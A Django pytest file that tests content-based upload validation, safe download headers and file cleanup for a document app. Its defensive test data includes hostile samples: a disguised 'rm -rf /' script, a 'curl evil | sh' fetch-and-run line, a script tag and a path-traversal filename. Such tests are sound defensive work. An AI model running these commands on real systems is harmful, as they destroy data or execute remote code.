"""Uploaded documents are judged by their content: a script renamed to .pdf is refused."""

import io
import zipfile

import pytest
from django.core.exceptions import ValidationError
from django.core.files.storage import default_storage
from django.core.files.uploadedfile import SimpleUploadedFile

from razon.models import Document
from razon.uploads import DOCX, ODT, PDF, clean_filename, sniff_document
from tests import factories

pytestmark = pytest.mark.django_db


def office(parts):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as package:
        for name, content in parts.items():
            package.writestr(name, content)
    return buffer.getvalue()


DOCX_BYTES = office({"[Content_Types].xml": "<Types/>", "word/document.xml": "<w:document/>"})
ODT_BYTES = office({"mimetype": ODT.content_type, "content.xml": "<office/>"})


def upload(name, content):
    document = Document(title="Bestand", slug="bestand", file=SimpleUploadedFile(name, content))
    document.full_clean()
    return document


@pytest.mark.parametrize(
    "content, kind",
    [(b"%PDF-1.7\n...", PDF), (DOCX_BYTES, DOCX), (ODT_BYTES, ODT)],
)
def test_accepted_documents_are_recognised_by_content(content, kind):
    assert sniff_document(io.BytesIO(content)) == kind


@pytest.mark.parametrize(
    "name, content",
    [
        ("verslag.pdf", b"#!/bin/sh\nrm -rf /\n"),
        ("verslag.pdf", b"<html><script>alert(1)</script></html>"),
        ("foto.docx", b"\x89PNG\r\n\x1a\n" + b"\x00" * 20),
        ("archief.docx", office({"evil.exe": "MZ"})),
        ("kapot.docx", b"PK\x03\x04 not really a zip"),
    ],
)
def test_hostile_or_unknown_files_are_refused_with_a_clear_message(name, content):
    with pytest.raises(ValidationError) as error:
        upload(name, content)
    assert "gekeken naar de inhoud" in str(error.value.message_dict["file"])


def test_a_file_over_the_limit_is_refused(settings):
    settings.RAZON_MAX_UPLOAD_SIZE = 100
    with pytest.raises(ValidationError) as error:
        upload("groot.pdf", b"%PDF-" + b"0" * 200)
    assert "het maximum is 100" in str(error.value.message_dict["file"])


def test_an_accepted_file_gets_its_type_size_and_a_clean_name():
    document = upload("../../Verslag 7 feb <2024>.PDF.exe", b"%PDF-1.4 demo")
    assert document.content_type == PDF.content_type
    assert document.size == len(b"%PDF-1.4 demo")
    assert document.file.name == "verslag-7-feb-2024pdf.pdf"
    assert clean_filename("", "pdf") == "document.pdf"


def stored_document(slug):
    document = Document(title=slug, slug=slug, content_type=PDF.content_type, size=8)
    document.file.save(f"{slug}.pdf", SimpleUploadedFile(f"{slug}.pdf", b"%PDF-1.4"), save=False)
    document.save()
    return document


def download(client, document):
    """The document as a visitor gets it once a published event holds it."""
    factories.event().documents.add(document)
    response = client.get(document.get_absolute_url())
    assert response.status_code == 200
    return response


def test_a_pdf_opens_in_the_browser_sandboxed_with_the_type_from_its_content(client):
    response = download(client, stored_document("verslag"))

    assert response["Content-Type"] == PDF.content_type
    assert response["Content-Disposition"] == 'inline; filename="verslag.pdf"'
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Security-Policy"].startswith("sandbox")
    assert "allow-same-origin" not in response["Content-Security-Policy"]


def test_an_office_file_downloads_with_a_clean_name(client):
    document = upload("Agenda 12 maart (definitief).docx", DOCX_BYTES)
    document.save()

    response = download(client, document)

    assert response["Content-Type"] == DOCX.content_type
    assert response["Content-Disposition"] == (
        'attachment; filename="agenda-12-maart-definitief.docx"'
    )
    assert response["X-Content-Type-Options"] == "nosniff"


def document_form(file, **fields):
    return {"title": "Verslag", "slug": "verslag", "kind": "verslag", "file": file, **fields}


def test_the_admin_shows_why_a_document_is_refused(superuser_client):
    script = SimpleUploadedFile("verslag.pdf", b"#!/bin/sh\ncurl evil | sh\n")

    response = superuser_client.post("/admin/razon/document/add/", document_form(script))

    assert response.status_code == 200
    assert "gekeken naar de inhoud, niet naar de naam" in response.content.decode()
    assert not Document.objects.exists()


def test_replacing_the_file_in_the_admin_keeps_the_address_and_removes_the_old_file(
    superuser_client, client, django_capture_on_commit_callbacks
):
    old = stored_document("verslag")
    old_name = old.file.name
    url = old.get_absolute_url()

    new_file = SimpleUploadedFile("verslag-v2.pdf", b"%PDF-1.7 nieuwe versie")
    with django_capture_on_commit_callbacks(execute=True):
        response = superuser_client.post(
            f"/admin/razon/document/{old.pk}/change/", document_form(new_file)
        )

    assert response.status_code == 302
    document = Document.objects.get()
    assert document.get_absolute_url() == url
    assert document.file.name != old_name
    assert not default_storage.exists(old_name)
    assert b"".join(client.get(url).streaming_content) == b"%PDF-1.7 nieuwe versie"


def test_deleting_a_document_removes_its_file_after_the_commit(
    django_capture_on_commit_callbacks,
):
    document = stored_document("weg")
    with django_capture_on_commit_callbacks(execute=True):
        document.delete()
        assert default_storage.exists(document.file.name)

    assert not default_storage.exists(document.file.name)


def test_deleting_a_document_keeps_a_file_another_document_still_uses(
    django_capture_on_commit_callbacks,
):
    original = stored_document("origineel")
    copy = Document.objects.create(
        title="Kopie", slug="kopie", file=original.file.name, content_type=PDF.content_type, size=8
    )
    with django_capture_on_commit_callbacks(execute=True):
        copy.delete()

    assert default_storage.exists(original.file.name)
